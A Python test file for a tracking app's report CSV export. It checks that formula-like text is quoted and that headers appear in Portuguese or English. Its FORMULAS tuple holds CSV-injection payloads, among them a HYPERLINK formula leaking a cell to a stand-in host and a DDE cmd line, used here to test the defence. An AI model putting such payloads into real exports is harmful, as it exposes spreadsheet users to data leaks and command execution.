"""A report's CSV, from the API and the dashboard, hands a spreadsheet text, never a formula:
anyone can put text in a report by clicking a public tracking link."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from zoneinfo import ZoneInfo

import httpx
from sqlalchemy.ext.asyncio import AsyncEngine

from tests.factories import make_campaign
from tests.reports.test_api_reports import IPHONE, reports_url, visit
from tests.web.browsers import signed_in
from tests.web.callers import Caller, make_owner
from tests.web.sales import postback
from trilha.app import TrilhaApp
from trilha.workspaces import Workspace

FORMULAS = (
    '=HYPERLINK("http://evil.test/?x="&A1,"Detalhes")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
)


async def click_each_formula(
    client: httpx.AsyncClient, db: AsyncEngine, owner: Caller, workspace: Workspace
) -> None:
    """A click per formula, in sub1, on a campaign named like a formula whose clicks cost
    R$ 12,50 each: a loss, so the CSV has negative amounts too."""
    campaign = await make_campaign(db, workspace, name="=1+1")
    model = await client.put(
        f"/api/v1/workspaces/{workspace.id}/campaigns/{campaign.id}/costs/model",
        json={"model": "cpc", "amount": "12,50"},
        headers=owner.headers,
    )
    assert model.status_code == 200, model.text
    for n, formula in enumerate(FORMULAS):
        response = await client.get(
            f"/r/{campaign.slug}",
            params={"sub1": formula},
            headers={"user-agent": IPHONE.format(n=n)},
        )
        assert response.status_code == 302


def read_csv(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=";"))


async def test_the_api_csv_quotes_text_that_starts_like_a_formula(
    client: httpx.AsyncClient, db: AsyncEngine
) -> None:
    owner, workspace = await make_owner(db)
    await click_each_formula(client, db, owner, workspace)

    response = await client.get(
        f"{reports_url(workspace.id)}/csv",
        params={
            "preset": "today",
            "group_by": ["campaign", "sub1"],
            "column": ["clicks", "profit", "roi"],
        },
        headers=owner.headers,
    )

    assert response.status_code == 200, response.text
    header, *rows, totals = read_csv(response.content)
    assert header == ["campaign", "sub1", "clicks", "profit", "roi"]
    assert sorted(rows) == sorted(
        ["'=1+1", f"'{formula}", "1", "-12,50", "-1,0000"] for formula in FORMULAS
    )
    assert totals == ["total", "", "6", "-75,00", "-1,0000"]


async def test_the_dashboard_csv_quotes_text_that_starts_like_a_formula(
    app: TrilhaApp, client: httpx.AsyncClient, db: AsyncEngine
) -> None:
    owner, workspace = await make_owner(db)
    await click_each_formula(client, db, owner, workspace)
    browser, _ = await signed_in(app, db, owner.user)

    async with browser:
        response = await browser.get(
            f"/w/{workspace.id}/reports/csv",
            params={"preset": "today", "group_by": "sub1"},
        )

    assert response.status_code == 200, response.text
    header, *rows, _ = read_csv(response.content)
    assert (header[0], header[1]) == ("sub1", "Cliques")
    assert sorted(row[:2] for row in rows) == sorted([f"'{formula}", "1"] for formula in FORMULAS)


async def _sales_with_an_orphan(
    client: httpx.AsyncClient, db: AsyncEngine, owner: Caller, workspace: Workspace
) -> None:
    """A campaign with 3 clicks costing R$ 12,50 each and a sale of R$ 97,00 (ROI 158,67 %),
    and a sale without a click (an orphan) of R$ 20,00."""
    campaign = await make_campaign(db, workspace, name="Black Friday")
    model = await client.put(
        f"/api/v1/workspaces/{workspace.id}/campaigns/{campaign.id}/costs/model",
        json={"model": "cpc", "amount": "12,50"},
        headers=owner.headers,
    )
    assert model.status_code == 200, model.text
    click_ids = [await visit(client, campaign, n) for n in range(3)]
    await postback(client, workspace, click_id=click_ids[0], txid="T1", payout="97,00")
    await postback(client, workspace, click_id="unknown-click", txid="T2", payout="20")


async def test_the_dashboard_csv_reads_as_the_report_page_in_portuguese(
    app: TrilhaApp, client: httpx.AsyncClient, db: AsyncEngine
) -> None:
    owner, workspace = await make_owner(db)
    await _sales_with_an_orphan(client, db, owner, workspace)
    browser, _ = await signed_in(app, db, owner.user)

    async with browser:
        response = await browser.get(
            f"/w/{workspace.id}/reports/csv",
            params={"preset": "today", "group_by": ["campaign", "day"]},
        )

    assert response.status_code == 200, response.text
    header, *rows, totals = read_csv(response.content)
    today = datetime.now(ZoneInfo(workspace.timezone)).strftime("%d/%m/%Y")
    names = ["Campanha", "Dia", "Cliques", "Cliques únicos", "Vendas", "Vendas pendentes"]
    assert header[:6] == names
    assert header[-6:] == ["Receita líquida", "Custo", "Lucro", "ROI", "Conversão", "EPC"]
    by_name = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
    black_friday, orphans = by_name["Black Friday"], by_name["(nenhum)"]
    assert black_friday["Dia"] == orphans["Dia"] == today
    assert black_friday["Receita líquida"] == "97,00"
    assert (black_friday["Custo"], black_friday["Lucro"]) == ("37,50", "59,50")
    assert (black_friday["ROI"], black_friday["Conversão"]) == ("158,67%", "33,33%")
    assert (orphans["Cliques"], orphans["Receita líquida"], orphans["ROI"]) == ("0", "20,00", "")
    assert totals[:2] == ["Total", ""]
    assert dict(zip(header, totals, strict=True))["Lucro"] == "79,50"


async def test_the_dashboard_csv_is_in_english_for_a_member_who_reads_english(
    app: TrilhaApp, client: httpx.AsyncClient, db: AsyncEngine
) -> None:
    owner, workspace = await make_owner(db)
    await _sales_with_an_orphan(client, db, owner, workspace)
    answer = await client.patch("/api/v1/me", json={"locale": "en"}, headers=owner.headers)
    assert answer.status_code == 200, answer.text
    browser, _ = await signed_in(app, db, owner.user)

    async with browser:
        response = await browser.get(
            f"/w/{workspace.id}/reports/csv",
            params={"preset": "today", "group_by": "campaign"},
        )

    assert response.status_code == 200, response.text
    header, *rows, totals = read_csv(response.content)
    assert header[:3] == ["Campaign", "Clicks", "Unique clicks"]
    shown = {row[0]: dict(zip(header, row, strict=True)) for row in [*rows, totals]}
    assert set(shown) == {"Black Friday", "(none)", "Total"}
    assert (shown["Black Friday"]["ROI"], shown["Total"]["Profit"]) == ("158.67%", "79.50")
